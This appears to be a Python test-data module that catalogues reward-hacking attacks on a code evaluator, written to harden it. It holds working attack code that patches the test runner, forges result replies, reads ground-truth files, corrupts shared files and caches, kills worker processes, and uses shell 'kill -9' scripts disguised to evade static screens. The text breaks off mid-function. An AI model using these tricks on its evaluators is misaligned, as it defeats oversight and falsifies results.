"""A catalogue of attacks on ``req2test evaluate``: predictions a reward-hacking agent could submit.

Every attack is a *prediction* (``files``: path -> content, written into the evaluation
workspace) for one instance of the tiny ``minicalc`` dataset built by ``tests/conftest.py``
(``mini_dataset``), unless it says otherwise::

    minicalc/features/calc.feature:9      Background: Given a calculator
                                          Scenario:   When I add 3 / Then the total is 3

Each one is real step-module source, written to be as effective as possible against the
evaluator as it was before the trust-boundary rebuild (``scripts/attack_report.py`` prints
what each achieves; ``/tmp/attack_report_before.md`` holds that table). ``expectation`` states
the verdict the rebuilt evaluator must give instead; ``tests/adversarial/test_attacks.py``
asserts it.

Classes:
  1 runner tampering in-process        (a false assertion turned into a pass)
  2 forged result channel              (a passing, kill-complete result written by the test)
  3 mutation detection, not behaviour  (assert-free tests that fail *because* a mutant runs)
  4 ground truth on disk               (generic modules that load the real step definitions)
  5 cross-instance contamination       (the next instance on the same worker is harmed)
  6 laundering and denial of service   (a failure turned into an excluded infrastructure failure,
                                        or the whole run aborted)
  7 resources                          (memory, processes, file size; every one self-limiting so
                                        that it cannot take this machine down when no limit exists)

Nothing here is imported by the package: the module is test data plus the small runner
(``run_attack``) and checker (``violations``) that the test and the report script share.
"""

from __future__ import annotations

import json
import textwrap
import time
import traceback
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

ADD = "minicalc/features/calc.feature:9"     # the attacked instance (When I add 3 / Then the total is 3)
NEXT = "minicalc/features/calc.feature:13"   # the companion: its oracle prediction runs after the attack
STEPS = "features/steps/calc_steps.py"
SHOP_TARGETS = ("tinyshop/features/inventory.feature:13", "tinyshop/features/cart.feature:13",
                "tinyshop/features/discounts.feature:12")

CLASSES = {
    1: "runner tampering in-process",
    2: "forged result channel",
    3: "mutation detection instead of behaviour",
    4: "ground truth on disk",
    5: "cross-instance contamination",
    6: "laundering and denial of service",
    7: "resources",
}


# ----------------------------------------------------------------------------- records
@dataclass(frozen=True)
class Expectation:
    """The verdict the rebuilt evaluator must give (checked by :func:`violations`).

    - ``pass_allowed``: the attacked instance may still get outcome ``pass`` — but then never
      with ``kill_complete`` (behaviour-free detection: once neutralised, what is left is an
      assert-free test that passes and kills too little) ...
    - ``kill_complete_allowed``: ... unless its test is a genuinely correct one whose harm is done
      elsewhere (class 5: the verdict that matters is the next instance's).
    - ``outcomes``: when set, the attacked instance's outcome must be one of these.
    - ``detail_contains``: text the attacked instance's detail must contain.
    - ``next_unharmed``: every companion instance (an oracle prediction evaluated after the
      attack in the same run, on the same worker) gets pass + kill_complete and a result
      identical to evaluating it alone.
    - ``max_seconds``: the whole run (every instance of it) finishes within this many seconds.

    ``evaluate()`` must never raise, and no outcome of the run may be an infrastructure
    failure, for any attack.
    """

    summary: str
    pass_allowed: bool = False
    kill_complete_allowed: bool = False
    outcomes: tuple[str, ...] = ()
    detail_contains: str = ""
    next_unharmed: bool = False
    max_seconds: float | None = None


NOT_PASS = Expectation("not pass (ideally: tampering)")
NOT_KILL_COMPLETE = Expectation("not pass+kill_complete (unstable, or pass without kill_complete)", pass_allowed=True)
GOLD_UNREACHABLE = Expectation("not pass (the gold files are gone: build/execution failure)")
NEXT_UNHARMED = Expectation("next instance unharmed (pass + kill_complete, identical to alone)",
                            pass_allowed=True, kill_complete_allowed=True, next_unharmed=True)
REJECTED = Expectation("generation_failure 'invalid submission'; run completes; next instance unharmed",
                       outcomes=("generation_failure",), detail_contains="invalid submission", next_unharmed=True)
CONTAINED = Expectation("execution_failure (not infrastructure); run completes; next instance unharmed",
                        outcomes=("execution_failure", "tampering"), next_unharmed=True, max_seconds=60.0)
BOUNDED = Expectation("not pass, within a bounded time, machine intact", max_seconds=180.0)


@dataclass(frozen=True)
class Attack:
    name: str
    klass: int
    description: str
    files: dict[str, str]
    expectation: Expectation
    dataset: str = "mini"                 # "mini" (conftest mini_dataset) | "shop" (examples/tinyshop)
    targets: tuple[str, ...] = (ADD,)     # instances that get these files as their prediction
    companions: tuple[str, ...] = ()      # instances evaluated after them with their oracle prediction
    flaky: bool = False                   # randomised: today's effect is a matter of luck


def _src(text: str) -> str:
    return textwrap.dedent(text).lstrip("\n")


# ----------------------------------------------------------------------------- shared source
GIVEN_WHEN = _src('''
    from behave import given, when, then
    from minicalc import Calculator


    @given("a calculator")
    def given_calc(context):
        context.calc = Calculator()


    @when("I add {n:d}")
    def when_add(context, n):
        context.calc.add(n)
''')

FALSE_THEN = _src('''
    @then("the total is {n:d}")
    def then_total(context, n):
        assert context.calc.total == 999, "false on purpose: only tampering can make this pass"
''')

CORRECT_THEN = _src('''
    @then("the total is {n:d}")
    def then_total(context, n):
        assert context.calc.total == n
''')

GOOD = GIVEN_WHEN + "\n\n" + CORRECT_THEN

# process-tree helpers
PROC = _src('''
    import os as _os


    def _ppid_of(pid):
        with open(f"/proc/{pid}/stat") as fh:
            return int(fh.read().rsplit(")", 1)[1].split()[1])


    def _cmdline(pid):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                return fh.read().replace(b"\\0", b" ").decode(errors="replace")
        except OSError:
            return ""


    def _ancestors(pid):
        chain = []
        while pid > 1:
            pid = _ppid_of(pid)
            chain.append(pid)
        return chain


    def _worker_pid():
        """The outermost ancestor with this process's command line: forks keep it, so that is
        the warm worker every run was forked from."""
        mine = _cmdline(_os.getpid())
        found, pid = None, _os.getpid()
        while pid > 1:
            if _cmdline(pid) == mine:
                found = pid
            pid = _ppid_of(pid)
        return found


    def _detach():
        """In a freshly forked child: drop every inherited descriptor (result pipes, protocol)."""
        null = _os.open(_os.devnull, _os.O_RDWR)
        for fd in (0, 1, 2):
            _os.dup2(null, fd)
        _os.closerange(3, 65536)
''')

# the evaluator's frames, seen from a step function
FRAMES = _src('''
    import sys as _sys


    def _find(pred):
        frame = _sys._getframe(1)
        while frame is not None:
            for value in list(frame.f_locals.values()):
                try:
                    if pred(value):
                        return value
                except Exception:
                    pass
            frame = frame.f_back
        return None


    def _session_request():
        return _find(lambda v: isinstance(v, dict) and v.get("op") == "session")
''')

# a clean result that passes every selected scenario and "covers" every mutant it was sent
FORGED_CLEAN = _src('''
    def _forged_clean(req):
        covered = {}
        for mutant in req["mutants"]:
            covered.setdefault(mutant["file"], set()).update(mutant["lines"])
        return {
            "exit": "ok", "failed": False, "abort": None, "hook_failures": 0, "feature_hook_failed": False,
            "scenarios": [{"line": line, "name": "", "status": "passed", "hook_failed": False}
                          for line in req["lines"]],
            "steps": [], "elapsed": 0.01,
            "trace": {"direct": {}, "executed_when_then": [], "executed_other": [], "test_files": [],
                      "coverage": {f: sorted(lines) for f, lines in covered.items()},
                      "points": ["run"], "first_point": {}, "opened": []},
        }


    def _forged_session_reply(req):
        return {"clean": _forged_clean(req), "unbound": [], "elapsed": 0.05,
                "mutants": {m["id"]: {"verdict": "killed", "elapsed": 0.01, "detail": "AssertionError"}
                            for m in req["mutants"]}}
''')


def _module(*parts: str) -> str:
    return "\n\n".join(p.strip("\n") for p in parts) + "\n"


# ----------------------------------------------------------------------------- class 1
STEP_RUN_PATCH = _module('''
# Step.run is wrapped at import time: an assertion failure is re-labelled "passed".
import behave.model as _model
from behave.model_type import Status as _Status

_original_step_run = _model.Step.run


def _step_run(self, runner, *args, **kwargs):
    _original_step_run(self, runner, *args, **kwargs)
    if self.status == _Status.failed:
        self.status = _Status.passed
        self.exception = None
        self.error_message = None
    return not self.status.has_failed()


_model.Step.run = _step_run
''', GIVEN_WHEN, FALSE_THEN)

SCENARIO_RUN_PATCH = _module('''
# Scenario.run is wrapped: a scenario whose only failures are assertions reports "passed".
import behave.model as _model
from behave.model_type import Status as _Status

_original_scenario_run = _model.Scenario.run


def _scenario_run(self, runner):
    failed = _original_scenario_run(self, runner)
    if any(step.status == _Status.failed for step in self.all_steps):
        self.set_status(_Status.passed)
        return False
    return failed


_model.Scenario.run = _scenario_run
''', GIVEN_WHEN, FALSE_THEN)

AFTER_STEP_HOOK = _module('''
# The runner is found in the loader's frame; an after_step hook re-labels failed steps.
import sys as _sys
from behave.model_type import Status as _Status


def _runner_loading_me():
    frame = _sys._getframe(1)
    while frame is not None:
        candidate = frame.f_locals.get("self")
        if candidate is not None and hasattr(candidate, "hooks") and hasattr(candidate, "load_step_definitions"):
            return candidate
        frame = frame.f_back
    return None


_runner = _runner_loading_me()
_previous = _runner.hooks.get("after_step") if _runner is not None else None


def _after_step(context, step):
    if _previous is not None:
        _previous(context, step)
    if step.status == _Status.failed:
        step.status = _Status.passed
        step.exception = None
        step.error_message = None


if _runner is not None:
    _runner.hooks["after_step"] = _after_step
''', GIVEN_WHEN, FALSE_THEN)

STATUS_RENAME = _module('''
# behave's Status enum is edited: the member "failed" now calls itself "passed".
from behave.model_type import Status as _Status

_Status.failed._name_ = "passed"
''', GIVEN_WHEN, FALSE_THEN)

MATCH_RUN_PATCH = _module('''
# The step matcher's Match.run (which calls every step function) swallows AssertionError.
import behave.matchers as _matchers

_original_match_run = _matchers.Match.run


def _match_run(self, context):
    try:
        return _original_match_run(self, context)
    except AssertionError:
        return None


_matchers.Match.run = _match_run
''', GIVEN_WHEN, FALSE_THEN)

FORMATTER_FLIP = _module('''
# A formatter is slipped into the runner at run time (the evaluator empties runner.formatters
# after loading the steps). Its close() — called when the run's model is done — re-labels the
# failed steps and clears each scenario's cached status, so behave recomputes it: passed.
from behave.model_type import Status as _Status
from behave import given, when, then
from minicalc import Calculator


class _Flipper:
    def __init__(self, runner):
        self.runner = runner

    def close(self):
        for feature in self.runner.features or []:
            for scenario in feature.walk_scenarios():
                for step in scenario.all_steps:
                    if step.status == _Status.failed:
                        step.status = _Status.passed
                        step.exception = None
                        step.error_message = None
                scenario.clear_status()
            feature.clear_status()

    def __getattr__(self, name):
        return lambda *args, **kwargs: None


@given("a calculator")
def given_calc(context):
    runner = context._runner
    if not any(isinstance(f, _Flipper) for f in runner.formatters):
        runner.formatters.append(_Flipper(runner))
    context.calc = Calculator()


@when("I add {n:d}")
def when_add(context, n):
    context.calc.add(n)
''', FALSE_THEN)

# ----------------------------------------------------------------------------- class 2
FORGE_PROTOCOL_REPLY = _module('''
# The Worker object (whose proto_out is the worker's protocol pipe to the evaluator) and the
# session request (whose "mutants" are exactly the ground truth's kills) are found in the
# caller frames; a complete session reply — clean pass, every mutant killed — is written
# straight into the protocol, then the worker is killed so the real reply never arrives.
import json as _json
import signal as _signal
''', PROC, FRAMES, FORGED_CLEAN, GIVEN_WHEN, '''
@then("the total is {n:d}")
def then_total(context, n):
    req = _session_request()
    worker = _find(lambda v: hasattr(v, "proto_out") and hasattr(v, "session"))
    if req is not None and worker is not None:
        worker.proto_out.write(_json.dumps(_forged_session_reply(req)) + "\\n")
        worker.proto_out.flush()
        _os.kill(_worker_pid(), _signal.SIGKILL)
    assert context.calc.total == 999
''')

REPORT_AND_EXIT = _module('''
# bench.frameworks.behave.forking.report_and_exit — the evaluator's own reporting helper, loaded in
# the worker — is called from the test: the traced clean run reports a pass that "covers"
# every ground-truth mutant (read from the session request in the caller frames), every
# mutant run (split-stream child or import-time fallback) reports a kill.
from bench.frameworks.behave import forking as _forking
''', FRAMES, FORGED_CLEAN, GIVEN_WHEN, '''
@then("the total is {n:d}")
def then_total(context, n):
    recorder = _find(lambda v: type(v).__name__ == "RunRecorder")
    if recorder is not None:
        split = getattr(recorder.point_hook, "__self__", None)
        if recorder.trace:
            _forking.report_and_exit(_forged_clean(_session_request()))
        elif split is None or split.is_mutant_child:
            _forking.report_and_exit({"passed": False, "steps_ran": 3,
                                      "first_failure": "AssertionError: the total is wrong"})
        # else: the split-stream driver, which forks the mutants: let it carry on
    assert context.calc.total == 999
''')

RAW_FD_FORGE = _module('''
# No evaluator object is touched: the protocol pipe is found among the inherited descriptors
# (the one write-only pipe this process shares with the worker, per /proc/*/fd and fdinfo),
# the ground-truth kill list in the heap (gc), and a forged session reply is written with
# os.write; then the worker is killed so the real reply never arrives.
import gc as _gc
import json as _json
import signal as _signal
''', PROC, FORGED_CLEAN, '''
def _pipe(path):
    try:
        target = _os.readlink(path)
    except OSError:
        return None
    return target if target.startswith("pipe:") else None


def _write_only(pid, fd):
    try:
        with open(f"/proc/{pid}/fdinfo/{fd}") as fh:
            for line in fh:
                if line.startswith("flags:"):
                    return int(line.split()[1], 8) & 3 == _os.O_WRONLY
    except OSError:
        pass
    return False


def _protocol_fd(worker):
    theirs = {_pipe(f"/proc/{worker}/fd/{fd}") for fd in _os.listdir(f"/proc/{worker}/fd")
              if _write_only(worker, fd)} - {None}
    for fd in _os.listdir("/proc/self/fd"):
        if _pipe(f"/proc/self/fd/{fd}") in theirs and _write_only("self", fd):
            return int(fd)
    return None


def _request_in_heap():
    for obj in _gc.get_objects():
        if type(obj) is dict and obj.get("op") == "session" and "mutants" in obj:
            return obj
    return None
''', GIVEN_WHEN, '''
@then("the total is {n:d}")
def then_total(context, n):
    worker = _worker_pid()
    fd = _protocol_fd(worker) if worker else None
    req = _request_in_heap()
    if fd is not None and req is not None:
        data = (_json.dumps(_forged_session_reply(req)) + "\\n").encode()
        while data:
            data = data[_os.write(fd, data):]
        _os.kill(worker, _signal.SIGKILL)
    assert context.calc.total == 999
''')

WORKER_GLOBALS_PATCH = _module('''
# The worker's own module (run as __main__) is patched at import time: RunRecorder.run turns
# the traced clean run into a pass, and _summarize_run — which turns every mutant's run into
# a verdict, split-stream child or import-time fallback alike — always says "killed".
import sys as _sys


def _patch(module):
    recorder = getattr(module, "RunRecorder", None)
    if recorder is None or getattr(recorder, "_patched", False):
        return
    original_run = recorder.run

    def run(self, runner, feature_path, lines, features=None):
        result = original_run(self, runner, feature_path, lines, features)
        if self.trace:
            result["abort"] = None
            result["scenarios"] = [dict(s, status="passed", hook_failed=False) for s in result["scenarios"]]
            result["steps"] = [{k: v for k, v in dict(s, status="passed").items() if not k.startswith("error")}
                               for s in result["steps"]]
        return result

    recorder.run = run
    recorder._patched = True
    module._summarize_run = lambda result, expected_units: {
        "passed": False, "steps_ran": 3, "first_failure": "AssertionError: the total is wrong"}


for _name in ("__main__", "bench.frameworks.behave.worker"):
    if _name in _sys.modules:
        _patch(_sys.modules[_name])
''', GIVEN_WHEN, FALSE_THEN)

# ----------------------------------------------------------------------------- class 3
# Assert-free: the When step exercises the code (so every mutant is reached) but swallows
# whatever it raises; the Then step raises only when it notices it is a mutant run.
DETECTING_STEPS = _src('''
    from behave import given, when, then
    from minicalc import Calculator


    @given("a calculator")
    def given_calc(context):
        context.calc = Calculator()


    @when("I add {n:d}")
    def when_add(context, n):
        try:
            context.calc.add(n)
        except Exception:
            pass  # never judge the behaviour


    @then("the total is {n:d}")
    def then_total(context, n):
        if _mutant_run():
            raise RuntimeError("not the clean run")
''')

PROFILER_PROBE = _module('''
# The clean run is traced (a profiler + coverage); mutant runs are not.
import sys


def _mutant_run():
    return sys.getprofile() is None
''', DETECTING_STEPS)

PPID_PROBE = _module('''
# The clean run is a direct child of the process that loaded the step modules; split-stream
# mutant runs are its grandchildren, import-time fallbacks load the step modules themselves.
import os

_LOADED_IN = os.getpid()


def _mutant_run():
    return os.getppid() != _LOADED_IN
''', DETECTING_STEPS)

CODE_SNAPSHOT = _module('''
# Every production function's __code__ is snapshotted at import time and compared with the
# source on disk: a swapped-in mutant differs from the snapshot, an import-time mutant
# (served by an import hook) differs from what the file on disk compiles to.
import sys
import types

import minicalc.core  # noqa: F401  (make sure the production modules are loaded)

PACKAGE = "minicalc"


def _functions(module):
    for value in vars(module).values():
        if isinstance(value, types.FunctionType) and value.__module__ == module.__name__:
            yield value.__qualname__, value
        elif isinstance(value, type) and value.__module__ == module.__name__:
            for attr in vars(value).values():
                fn = attr.fget if isinstance(attr, property) else attr
                if isinstance(fn, types.FunctionType):
                    yield fn.__qualname__, fn


def _signature(code):
    return (code.co_code, code.co_names,
            tuple(_signature(c) if isinstance(c, types.CodeType) else repr(c) for c in code.co_consts))


def _compiled_from_disk(module):
    with open(module.__file__, encoding="utf-8") as fh:
        stack = [compile(fh.read(), module.__file__, "exec")]
    out = {}
    while stack:
        code = stack.pop()
        for const in code.co_consts:
            if isinstance(const, types.CodeType):
                out[const.co_qualname] = const
                stack.append(const)
    return out


def _production_modules():
    return [m for name, m in sorted(sys.modules.items())
            if (name == PACKAGE or name.startswith(PACKAGE + ".")) and getattr(m, "__file__", None)]


_SNAPSHOT = {(m.__name__, q): f.__code__ for m in _production_modules() for q, f in _functions(m)}


def _mutant_run():
    for module in _production_modules():
        disk = _compiled_from_disk(module)
        for qualname, fn in _functions(module):
            if _SNAPSHOT.get((module.__name__, qualname), fn.__code__) is not fn.__code__:
                return True
            if qualname in disk and _signature(disk[qualname]) != _signature(fn.__code__):
                return True
    return False
''', DETECTING_STEPS)

MARKER_FILE = _module('''
# The clean run always comes first: it leaves a marker next to this file; whoever finds it
# is a later run (a mutant).
import os

_MARKER = os.path.join(os.path.dirname(os.path.abspath(__file__)), ".first-run-done")


def _mutant_run():
    try:
        fd = os.open(_MARKER, os.O_CREAT | os.O_EXCL | os.O_WRONLY)
    except FileExistsError:
        return True
    os.close(fd)
    return False
''', DETECTING_STEPS)

MMAP_MARKER = _module('''
# The first run marks its own file through a shared writable mapping whose descriptor it
# closes at once: no write() call and no new entry, only a mapping that is released when
# the process ends. A later run finds the mark. (Aimed at a reset that trusts change
# notifications: only the descriptor's last release, at exit, says anything.)
import mmap
import os

_SELF = os.path.abspath(__file__)
_MARK = b"." * 15


def _mutant_run():
    fd = os.open(_SELF, os.O_RDWR)
    try:
        mapped = mmap.mmap(fd, 0)
    finally:
        os.close(fd)
    at = mapped.rfind(_MARK)
    if at < 0:
        return True
    mapped[at:at + len(_MARK)] = b"x" * len(_MARK)
    globals()["_keep_mapped"] = mapped  # released only when the run's process ends
    return False
''', DETECTING_STEPS, "# ...............")

SHARED_COUNTER = _module('''
# A run counter in anonymous shared memory (mmap, inherited by every fork of the process that
# loaded the steps): only run number one (the clean run) passes. A run in the very process
# that loaded the steps is a fresh-import mutant run.
import mmap
import os
import struct

_COUNTER = mmap.mmap(-1, 8)
_LOADED_IN = os.getpid()


def _mutant_run():
    runs = struct.unpack_from("q", _COUNTER)[0]
    struct.pack_into("q", _COUNTER, 0, runs + 1)
    return runs > 0 or os.getpid() == _LOADED_IN
''', DETECTING_STEPS)

TIMING_PROBE = _module('''
# Timing only: a tight loop of Python calls runs several times slower under the clean run's
# tracing than when the step modules were loaded; mutant runs are not traced.
import time


def _spin():
    def f():
        return None

    best = float("inf")
    for _ in range(5):
        started = time.perf_counter()
        for _ in range(20000):
            f()
        best = min(best, time.perf_counter() - started)
    return best


_BASELINE = _spin()


def _mutant_run():
    return _spin() < 3 * _BASELINE
''', DETECTING_STEPS)

COIN_FLIP = _module('''
# No detection at all: fail at random, 5 runs in 6 — the best odds for "clean run passes and
# all 5 mutant runs fail" (1/6 * (5/6)**5 = 6.7 %). os.urandom, because the random module's
# state is copied into every fork and would repeat the clean run's draw.
import os


def _mutant_run():
    return int.from_bytes(os.urandom(4), "big") % 6 != 0
''', DETECTING_STEPS)

# ----------------------------------------------------------------------------- class 4
GOLD_IMPORTLIB = _src('''
    """Generic step module: no test logic, it loads the real project's step definitions.

    The workspace links everything it does not replace into the worker's complete copy of
    the project; following any of those links finds the real steps directory."""
    import importlib.util
    import os
    import sys


    def _real_steps_dir():
        here = os.path.dirname(os.path.abspath(__file__))
        top = here
        while top != os.path.dirname(top):
            top = os.path.dirname(top)
            for name in sorted(os.listdir(top)):
                path = os.path.join(top, name)
                if os.path.islink(path):
                    real_root = os.path.dirname(os.path.realpath(path))
                    return os.path.join(real_root, os.path.relpath(here, top))
        return None


    _steps = _real_steps_dir()
    if _steps and os.path.isdir(_steps):
        sys.path.insert(0, _steps)
        for _name in sorted(os.listdir(_steps)):
            if _name.endswith(".py") and _name != os.path.basename(__file__):
                _spec = importlib.util.spec_from_file_location("_real_" + _name[:-3], os.path.join(_steps, _name))
                _module = importlib.util.module_from_spec(_spec)
                sys.modules[_spec.name] = _module
                _spec.loader.exec_module(_module)
''')

GOLD_EXEC = _src('''
    """Generic step module: no test logic. The production package is imported from the
    worker's complete copy of the project; its features/steps is next door. Each real step
    file is compiled under a name in this directory, so the code counts as "test code"."""
    import os
    import sys

    import minicalc


    def _real_steps_dir():
        root = os.path.dirname(os.path.abspath(minicalc.__file__))
        while root != os.path.dirname(root):
            candidate = os.path.join(root, "features", "steps")
            if os.path.isdir(candidate) and candidate != os.path.dirname(os.path.abspath(__file__)):
                return candidate
            root = os.path.dirname(root)
        return None


    _here = os.path.dirname(os.path.abspath(__file__))
    _steps = _real_steps_dir()
    if _steps:
        sys.path.insert(0, _steps)
        for _name in sorted(os.listdir(_steps)):
            if _name.endswith(".py") and _name != os.path.basename(__file__):
                with open(os.path.join(_steps, _name), encoding="utf-8") as _fh:
                    _source = _fh.read()
                _as = os.path.join(_here, "_" + _name)
                exec(compile(_source, _as, "exec"), {"__name__": "_real_" + _name[:-3], "__file__": _as})
''')

# ----------------------------------------------------------------------------- class 5
ENV_REWRITE = _module('''
# A correct test that also appends a failing before_scenario hook to the shared environment.py
# (the workspace links it from the worker's copy of the project, which is writable).
import os

_SABOTAGE = """

def before_scenario(context, scenario):
    raise RuntimeError("environment.py was rewritten by an earlier prediction")
"""


def _sabotage():
    env = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "environment.py")
    target = os.path.realpath(env)
    with open(target, encoding="utf-8") as fh:
        if "earlier prediction" in fh.read():
            return
    with open(target, "a", encoding="utf-8") as fh:
        fh.write(_SABOTAGE)
''', GIVEN_WHEN, '''
@then("the total is {n:d}")
def then_total(context, n):
    assert context.calc.total == n
    _sabotage()
''')

DELETE_SHARED = _module('''
# A correct test that deletes the feature files, hooks and step files of the worker's copy of
# the project (reached through the workspace's links): the next workspace is built from it.
import os


def _vandalise():
    features = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    for name in os.listdir(features):
        path = os.path.join(features, name)
        if os.path.islink(path):
            real = os.path.dirname(os.path.realpath(path))
            for dirpath, _dirs, files in os.walk(real):
                for file in files:
                    if file.endswith((".feature", ".py")):
                        os.remove(os.path.join(dirpath, file))
            return
''', GIVEN_WHEN, '''
@then("the total is {n:d}")
def then_total(context, n):
    assert context.calc.total == n
    _vandalise()
''')

DAEMON = _module('''
# A correct test that leaves a daemon (double fork + setsid: out of the run's process group,
# no parent-death signal). As soon as the next workspace appears next to its own, it SIGKILLs
# every process below the worker. Self-limiting: it only ever signals descendants of this
# worker and exits after 30 s.
import signal
import time
''', PROC, '''
def _daemon(worker, own_ws):
    parent, mine = _os.path.dirname(own_ws), _os.path.basename(own_ws)
    deadline = time.monotonic() + 30
    me = _os.getpid()
    while time.monotonic() < deadline:
        try:
            entries = _os.listdir(parent)
        except OSError:
            return
        if any(not e.startswith(mine) for e in entries):
            for name in _os.listdir("/proc"):
                if not name.isdigit() or int(name) in (me, worker):
                    continue
                try:
                    if worker in _ancestors(int(name)):
                        _os.kill(int(name), signal.SIGKILL)
                except (OSError, ValueError):
                    pass
        time.sleep(0.002)


def _spawn_once():
    own_ws = _os.path.dirname(_os.path.dirname(_os.path.dirname(_os.path.abspath(__file__))))
    try:
        _os.close(_os.open(_os.path.join(own_ws, ".daemon"), _os.O_CREAT | _os.O_EXCL | _os.O_WRONLY))
    except FileExistsError:
        return
    worker = _worker_pid()
    if worker is None:
        return
    pid = _os.fork()
    if pid == 0:
        try:
            _os.setsid()
            if _os.fork() == 0:
                _detach()
                _daemon(worker, own_ws)
        finally:
            _os._exit(0)
    _os.waitpid(pid, 0)
''', GIVEN_WHEN, '''
@then("the total is {n:d}")
def then_total(context, n):
    assert context.calc.total == n
    _spawn_once()
''')

DAEMON_SUBPROCESS = _module('''
# The daemon attack without any name a static screen looks for: the daemon is a separate
# interpreter (subprocess, start_new_session: setsid done by the C spawn code), its program
# a string; "/proc" is assembled at run time. Same behaviour and the same self-limits as
# "daemon": it only signals descendants of this worker, and exits after 30 s.
import os
import subprocess
import sys

_PROGRAM = \"\"\"
import os, signal, sys, time
P = "/" + "proc"
def ppid(pid):
    with open(f"{P}/{pid}/stat") as fh:
        return int(fh.read().rsplit(")", 1)[1].split()[1])
def cmd(pid):
    try:
        with open(f"{P}/{pid}/cmdline", "rb") as fh:
            return fh.read()
    except OSError:
        return b""
def ancestors(pid):
    chain = []
    while pid > 1:
        pid = ppid(pid)
        chain.append(pid)
    return chain
spawner, own_ws = int(sys.argv[1]), sys.argv[2]
mine, worker, pid = cmd(spawner), None, spawner
while pid > 1:
    if cmd(pid) == mine:
        worker = pid
    pid = ppid(pid)
print("ready", flush=True)  # the spawner waits for this: the walk above needs it alive
null = os.open(os.devnull, os.O_WRONLY)
os.dup2(null, 1)
parent, me = os.path.dirname(own_ws), os.getpid()
deadline = time.monotonic() + 30
while worker is not None and time.monotonic() < deadline:
    try:
        entries = os.listdir(parent)
    except OSError:
        break
    if any(not e.startswith(os.path.basename(own_ws)) for e in entries):
        for name in os.listdir(P):
            if name.isdigit() and int(name) not in (me, worker):
                try:
                    if worker in ancestors(int(name)):
                        os.kill(int(name), signal.SIGKILL)
                except (OSError, ValueError):
                    pass
    time.sleep(0.002)
\"\"\"


def _spawn_once():
    own_ws = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
    try:
        os.close(os.open(os.path.join(own_ws, ".daemon"), os.O_CREAT | os.O_EXCL | os.O_WRONLY))
    except FileExistsError:
        return
    daemon = subprocess.Popen([sys.executable, "-c", _PROGRAM, str(os.getpid()), own_ws], start_new_session=True,
                              stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    daemon.stdout.readline()
    daemon.stdout.close()
''', GIVEN_WHEN, '''
@then("the total is {n:d}")
def then_total(context, n):
    assert context.calc.total == n
    _spawn_once()
''')

PYCACHE_POISON = _module('''
# A correct test that plants a bytecode cache entry for the production package's __init__
# in the cache directory the evaluator's import-time-mutant worker shares between all
# instances (pycache-<slot> next to the worker's project copy, validated by source mtime and
# size only). The planted __init__ re-executes minicalc/core.py from disk over whatever
# mutant the import hook served: every later import-time mutant survives.
import importlib.util
import os
import sys
from importlib._bootstrap_external import _code_to_timestamp_pyc

import minicalc

_POISON = """

import sys as _sys
_core = _sys.modules.get("minicalc.core")
if _core is not None:
    with open(_core.__file__, encoding="utf-8") as _fh:
        exec(compile(_fh.read(), _core.__file__, "exec"), _core.__dict__)
    from minicalc.core import Calculator, make_calculator
"""


def _poison():
    source = os.path.abspath(minicalc.__file__)
    root = os.path.dirname(source)
    while root != "/" and not os.path.isdir(os.path.join(os.path.dirname(root), "ws-" + os.path.basename(root))):
        root = os.path.dirname(root)
    saved = sys.pycache_prefix
    sys.pycache_prefix = os.path.join(os.path.dirname(root), "pycache-" + os.path.basename(root))
    try:
        pyc = importlib.util.cache_from_source(source)
    finally:
        sys.pycache_prefix = saved
    with open(source, encoding="utf-8") as fh:
        code = compile(fh.read() + _POISON, source, "exec")
    st = os.stat(source)
    os.makedirs(os.path.dirname(pyc), exist_ok=True)
    with open(pyc, "wb") as fh:
        fh.write(_code_to_timestamp_pyc(code, int(st.st_mtime), st.st_size))
''', GIVEN_WHEN, '''
@then("the total is {n:d}")
def then_total(context, n):
    assert context.calc.total == n
    _poison()
''')

# ----------------------------------------------------------------------------- class 6
KILL_PARENT = _module('''
# A failing test that SIGKILLs its parent (the evaluation session) before it can fail.
import os
import signal
''', GIVEN_WHEN, '''
@then("the total is {n:d}")
def then_total(context, n):
    os.kill(os.getppid(), signal.SIGKILL)
    assert context.calc.total == 999
''')

KILL_WORKER = _module('''
# A failing test that SIGKILLs the warm worker itself (the outermost ancestor it was forked from).
import signal
''', PROC, GIVEN_WHEN, '''
@then("the total is {n:d}")
def then_total(context, n):
    worker = _worker_pid()
    if worker is not None:
        _os.kill(worker, signal.SIGKILL)
    assert context.calc.total == 999
''')

KILL_PARENT_SHELL = _module('''
# kill_parent without any name a static screen looks for: a shell does the killing
# ($PPID of the shell is this process; field 4 of its stat is the session above it).
import subprocess

_SCRIPT = "d=/proc; kill -9 $(cut -d' ' -f4 $d/$PPID/stat)"
''', GIVEN_WHEN, '''
@then("the total is {n:d}")
def then_total(context, n):
    subprocess.run(["sh", "-c", _SCRIPT], check=False)
    assert context.calc.total == 999
''')

KILL_WORKER_SHELL = _module('''
# kill_worker without any name a static screen looks for: a shell walks the process tree
# up from this process and SIGKILLs the outermost ancestor with this process's command line.
import subprocess

_SCRIPT = r\"\"\"
d=/proc; me=$(tr '\\0' ' ' < $d/$PPID/cmdline); p=$PPID; w=
while [ "$p" -gt 1 ]; do
  c=$(tr '\\0' ' ' < $d/$p/cmdline 2>/dev/null)
  [ "$c" = "$me" ] && w=$p
  p=$(cut -d' ' -f4 $d/$p/stat)
done
[ -n "$w" ] && kill -9 "$w"
\"\"\"
''', GIVEN_WHEN, '''
@then("the total is {n:d}")
def then_total(context, n):
    subprocess.run(["sh", "-c", _SCRIPT], check=False)
    assert context.calc.total == 999
''')

PROTOCOL_GARBAGE = _module('''
# A failing test that writes a line that is not JSON into the worker's protocol pipe.
''', FRAMES, GIVEN_WHEN, '''
@then("the total is {n:d}")
def then_total(context, n):
    worker = _find(lambda v: hasattr(v, "proto_out") and hasattr(v, "session"))
    if worker is not None:
        worker.proto_out.write("}{ this is not a reply\\n")
        worker.proto_out.flush()
    assert context.calc.total == 999
''')

FREEZE_WORKER = _module('''
# A failing test that SIGSTOPs the worker: the evaluator waits for its reply with no deadline.
# Self-limiting: a detached helper sends SIGCONT after 90 s.
import signal
import time
''', PROC, GIVEN_WHEN, '''
def _freeze(worker):
    pid = _os.fork()
    if pid == 0:
        try:
            _os.setsid()
            if _os.fork() == 0:
                _detach()
